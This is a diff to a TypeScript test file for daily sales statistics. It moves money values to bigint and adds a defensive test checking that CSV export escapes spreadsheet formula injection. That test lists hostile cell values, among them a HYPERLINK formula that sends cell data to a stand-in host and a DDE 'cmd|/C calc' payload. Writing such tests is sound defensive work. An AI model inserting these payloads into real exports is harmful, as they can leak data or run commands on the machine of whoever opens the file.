@@ -4,6 +4,7 @@ import { evolveOrderView, type OrderView } from '#domain/orderView';
 import {
   computeDayStatistics,
   computePeriodStatistics,
+  csvCell,
   dayStatisticsToCsv,
   divideRoundHalfUp,
   percentile,
@@ -84,24 +85,45 @@ describe('day statistics', () => {
   });
 
   it('sums revenue over issued DTEs and rounds the average half-up to whole pesos', () => {
-    expect(stats.revenue).toBe(5000 + 5005 + 4000);
+    expect(stats.revenue).toBe(5000n + 5005n + 4000n);
     // 14005 / 3 = 4668.33…
-    expect(stats.averageOrderValue).toBe(4668);
-    expect(divideRoundHalfUp(5, 2)).toBe(3);
-    expect(divideRoundHalfUp(7, 2)).toBe(4);
-    expect(divideRoundHalfUp(4, 3)).toBe(1);
+    expect(stats.averageOrderValue).toBe(4668n);
+    expect(divideRoundHalfUp(5n, 2n)).toBe(3n);
+    expect(divideRoundHalfUp(7n, 2n)).toBe(4n);
+    expect(divideRoundHalfUp(4n, 3n)).toBe(1n);
+  });
+
+  it('sums money exactly past 2^53, in the statistics and in the CSV', () => {
+    // Three orders of 2^53 - 1 pesos each: a fold over numbers rounds the sum to a neighbour.
+    const huge = Number.MAX_SAFE_INTEGER;
+    const issuedA = views[0]!;
+    const big = ['H1', 'H2', 'H3'].map((orderId) => ({
+      ...issuedA,
+      orderId,
+      total: huge,
+      lines: [{ ...issuedA.lines[0]!, sku: 'BIG', lineTotal: huge }],
+    }));
+    expect(String(huge + huge + huge)).not.toBe('27021597764222973'); // what numbers get wrong
+    const result = computeDayStatistics(day, big, later);
+    expect(result.revenue).toBe(27_021_597_764_222_973n);
+    expect(result.averageOrderValue).toBe(9_007_199_254_740_991n);
+    expect(result.topProductsByRevenue[0]).toMatchObject({ sku: 'BIG', revenue: 27_021_597_764_222_973n });
+    const lines = dayStatisticsToCsv(result).split('\n');
+    expect(lines).toContain('revenue,27021597764222973');
+    expect(lines).toContain('averageOrderValue,9007199254740991');
+    expect(lines).toContain('topByRevenue.1.revenue,27021597764222973');
   });
 
   it('ranks the top products by quantity and by revenue, ties by sku', () => {
     expect(stats.topProductsByQuantity).toEqual([
-      { sku: 'S1', description: 'Uno', quantity: 7, revenue: 2000 + 5005 },
-      { sku: 'S2', description: 'Dos', quantity: 1, revenue: 3000 },
-      { sku: 'S3', description: 'Tres', quantity: 1, revenue: 4000 },
+      { sku: 'S1', description: 'Uno', quantity: 7, revenue: 2000n + 5005n },
+      { sku: 'S2', description: 'Dos', quantity: 1, revenue: 3000n },
+      { sku: 'S3', description: 'Tres', quantity: 1, revenue: 4000n },
     ]);
     expect(stats.topProductsByRevenue.map((p) => [p.sku, p.revenue])).toEqual([
-      ['S1', 7005],
-      ['S3', 4000],
-      ['S2', 3000],
+      ['S1', 7005n],
+      ['S3', 4000n],
+      ['S2', 3000n],
     ]);
   });
 
@@ -173,7 +195,7 @@ describe('day statistics', () => {
     const empty = computeDayStatistics('2026-01-01', views, later);
     expect(empty).toMatchObject({
       orders: 0,
-      revenue: 0,
+      revenue: 0n,
       averageOrderValue: null,
       topProductsByQuantity: [],
     });
@@ -192,8 +214,39 @@ describe('day statistics', () => {
     expect(lines).toContain('topByQuantity.1.sku,S1');
     const quoted = dayStatisticsToCsv({
       ...stats,
-      topProductsByQuantity: [{ sku: 'X', description: 'a, "b"', quantity: 1, revenue: 1 }],
+      topProductsByQuantity: [{ sku: 'X', description: 'a, "b"', quantity: 1, revenue: 1n }],
     });
     expect(quoted).toContain('topByQuantity.1.description,"a, ""b"""');
+  });
+
+  it('never writes a cell a spreadsheet would run as a formula (OWASP CSV injection)', () => {
+    const hostile = [
+      '=HYPERLINK("http://x.example/?"&A1,"ver")',
+      '+1+cmd|/C calc!A0',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      '＝1+1',
+    ];
+    const csv = dayStatisticsToCsv({
+      ...stats,
+      topProductsByQuantity: hostile.map((description, i) => ({
+        sku: `X${i}`,
+        description,
+        quantity: 1,
+        revenue: 1n,
+      })),
+    });
+    hostile.forEach((text, i) => {
+      const label = `\ntopByQuantity.${i + 1}.description,`;
+      const start = csv.indexOf(label) + label.length;
+      const cell = csv.slice(start, csv.indexOf(`\ntopByQuantity.${i + 1}.quantity,`));
+      // Quoted, with a leading ' inside the quotes: a spreadsheet shows the text and evaluates nothing.
+      expect(cell).toBe(`"'${text.replaceAll('"', '""')}"`);
+    });
+    expect(csvCell('Tijeras')).toBe('Tijeras');
+    expect(csvCell(-5)).toBe('-5');
+    expect(csvCell(12n)).toBe('12');
   });
 });
